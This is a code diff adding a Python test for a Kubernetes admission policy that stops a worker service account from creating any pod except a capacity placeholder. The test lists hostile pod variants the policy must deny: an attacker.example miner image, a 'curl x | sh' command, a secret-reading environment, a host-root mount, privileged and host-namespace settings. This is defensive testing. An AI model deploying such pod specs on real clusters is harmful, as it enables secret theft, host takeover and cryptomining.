@@ -26,6 +26,7 @@ from endpoints.fleet.providers import get_provider, k8s_api, kubernetes
 from endpoints.fleet.providers.base import LaunchSpec, PoolSpec, ProviderError, ProviderUnreachable
 from endpoints.fleet.providers.k8s_placeholder import placeholder_pod
 from gpu_agent.runtime import control_plane as control_plane_client
+from tests.infra import cel
 from tests.infra.conftest import render, run_tool, tool
 
 SA_TOKEN = "service-account-token-0123456789"
@@ -137,6 +138,113 @@ def test_the_node_pools_overlay_lets_the_worker_manage_pods_and_pooled_agents_cl
                     "labels", {}).items()]
     assert labelled == [("DaemonSet", "inferplane-agent")] and wanted == {
         key: AGENT_LABELS[key] for key in ("app.kubernetes.io/component", "app.kubernetes.io/name")}
+
+
+POLICY = "inferplane-node-pools-placeholders"
+
+
+def _denied(rendered, username: str, operation: str, pod: dict) -> list[str]:
+    """What the rendered ValidatingAdmissionPolicy answers a request of `username` to `operation` (CREATE, DELETE)
+    `pod`: the messages of the rules it breaks (a rule whose evaluation errs denies, `failurePolicy: Fail`); [] when it
+    is admitted or the policy does not match it. Evaluated as the API server would, on the pod after its defaulting
+    (the service-account admission names the `default` account)."""
+    policy, binding = rendered.get("ValidatingAdmissionPolicy", POLICY)["spec"], rendered.get(
+        "ValidatingAdmissionPolicyBinding", POLICY)["spec"]
+    assert binding["policyName"] == POLICY and binding["validationActions"] == ["Deny"]
+    assert policy["failurePolicy"] == "Fail" and binding["paramRef"]["parameterNotFoundAction"] == "Deny"
+    params = rendered.get("ConfigMap", binding["paramRef"]["name"])
+    if not any("pods" in rule["resources"] and operation in rule["operations"] and rule["apiGroups"] == [""]
+               for rule in policy["matchConstraints"]["resourceRules"]):
+        return []
+    pod = pod | {"spec": {"serviceAccountName": "default"} | pod["spec"]}
+    env = {"request": {"operation": operation, "userInfo": {"username": username}, "namespace": "inferplane"},
+           "object": pod if operation == "CREATE" else None, "oldObject": pod if operation == "DELETE" else None,
+           "params": params}
+    if not all(cel.evaluate(condition["expression"], env) for condition in policy["matchConditions"]):
+        return []
+    env["variables"] = {}
+    for variable in policy.get("variables", []):
+        env["variables"][variable["name"]] = cel.evaluate(variable["expression"], env)
+    broken = []
+    for rule in policy["validations"]:
+        try:
+            allowed = cel.evaluate(rule["expression"], env) is True
+        except cel.CelError:
+            allowed = False
+        if not allowed:
+            broken.append(rule["message"])
+    return broken
+
+
+def test_the_node_pools_worker_may_create_and_delete_only_the_placeholders_the_pools_launch():
+    """A stolen worker credential may create pods in its namespace (RBAC cannot say which): the admission policy
+    admits only the placeholder the provider builds, with the image the worker is set to use, and no pod that differs
+    from it in what matters (image, command, environment, mounts, privileges, host namespaces, node, runtime, service
+    account); it lets the worker delete placeholders only. Other users are not its business."""
+    rendered = render("production-node-pools")
+    binding = rendered.get("RoleBinding", "inferplane-node-pools")
+    [subject] = binding["subjects"]
+    worker = f"system:serviceaccount:{subject['namespace']}:{subject['name']}"
+    image = rendered.config_map("inferplane-config")["data"]["INFERPLANE_K8S_PLACEHOLDER_IMAGE"]
+    role = rendered.get("Role", "inferplane-node-pools")
+    [rule] = role["rules"]
+    # Every pod write RBAC grants the worker is one the policy judges.
+    writes = {verb.upper() for verb in rule["verbs"]} - {"GET", "LIST", "WATCH"}
+    assert writes == {"CREATE", "DELETE"} and all(_denied(rendered, worker, operation, {"metadata": {}, "spec": {}})
+                                                   for operation in writes)
+
+    placeholder = placeholder_pod(POOL, _spec(zone="us-east-1a"), namespace="inferplane", image=image,
+                                  fleet_id="prod.eu-1")
+    assert _denied(rendered, worker, "CREATE", placeholder) == []
+    assert _denied(rendered, worker, "DELETE", placeholder) == []
+    no_gpus = placeholder_pod(PoolSpec(id=6, name="cpu", gpu_type="cpu", gpus_per_node=0, gpu_memory_mb=1),
+                              _spec(), namespace="inferplane", image=image)
+    assert _denied(rendered, worker, "CREATE", no_gpus) == []
+
+    def changed(change) -> dict:
+        pod = json.loads(json.dumps(placeholder))
+        change(pod["spec"], pod["spec"]["containers"][0], pod["metadata"])
+        return pod
+
+    hostile = {
+        "another image": lambda spec, container, meta: container.update(image="attacker.example/miner:1"),
+        "another command": lambda spec, container, meta: container.update(command=["sh", "-c", "curl x | sh"]),
+        "arguments": lambda spec, container, meta: container.update(args=["-c", "curl x | sh"]),
+        "a secret in its environment": lambda spec, container, meta: container.update(env=[{
+            "name": "T", "valueFrom": {"secretKeyRef": {"name": "inferplane", "key": "DATABASE_URL"}}}]),
+        "every secret key as its environment": lambda spec, container, meta: container.update(
+            envFrom=[{"secretRef": {"name": "inferplane"}}]),
+        "the host's disk": lambda spec, container, meta: (
+            spec.update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
+            container.update(volumeMounts=[{"name": "root", "mountPath": "/host"}])),
+        "a privileged container": lambda spec, container, meta: container["securityContext"].update(privileged=True),
+        "an added capability": lambda spec, container, meta: container["securityContext"].update(
+            capabilities={"add": ["SYS_ADMIN"]}),
+        "privilege escalation": lambda spec, container, meta: container["securityContext"].update(
+            allowPrivilegeEscalation=True),
+        "root": lambda spec, container, meta: (spec["securityContext"].update(runAsNonRoot=False),),
+        "the host's network": lambda spec, container, meta: spec.update(hostNetwork=True),
+        "the host's processes": lambda spec, container, meta: spec.update(hostPID=True),
+        "a node of its choosing": lambda spec, container, meta: spec.update(nodeName="ip-10-0-3-17.ec2.internal"),
+        "the GPU runtime": lambda spec, container, meta: spec.update(runtimeClassName="nvidia"),
+        "the worker's own account": lambda spec, container, meta: spec.update(
+            serviceAccountName="inferplane-node-pools", automountServiceAccountToken=True),
+        "a second container": lambda spec, container, meta: spec["containers"].append(dict(container, name="x")),
+        "an init container": lambda spec, container, meta: spec.update(initContainers=[dict(container, name="x")]),
+        "no placeholder labels": lambda spec, container, meta: meta.update(labels={"app": "miner"}),
+    }
+    for what, change in hostile.items():
+        assert _denied(rendered, worker, "CREATE", changed(change)), f"admitted a placeholder with {what}"
+    web_pod = {"metadata": {"name": "inferplane-web-7d9f", "labels": {"app.kubernetes.io/component": "web"}},
+               "spec": {"containers": [{"name": "web", "image": "inferplane/controlplane"}]}}
+    assert _denied(rendered, worker, "DELETE", web_pod) == [
+        "only a node pool's capacity placeholder (its role, pool and launch labels)"]
+    # Anyone else (an operator, another controller) is judged by their own rights, not by this policy.
+    assert _denied(rendered, "system:serviceaccount:kube-system:daemon-set-controller", "CREATE", web_pod) == []
+    assert _denied(rendered, "system:serviceaccount:inferplane:inferplane-registration-review", "CREATE",
+                   changed(hostile["another image"])) == []
+    # The policy's image is the one the worker puts on placeholders (one setting in each place: they must agree).
+    assert rendered.get("ConfigMap", "inferplane-placeholder-policy")["data"]["image"] == image
 
 
 class _ApiServer:
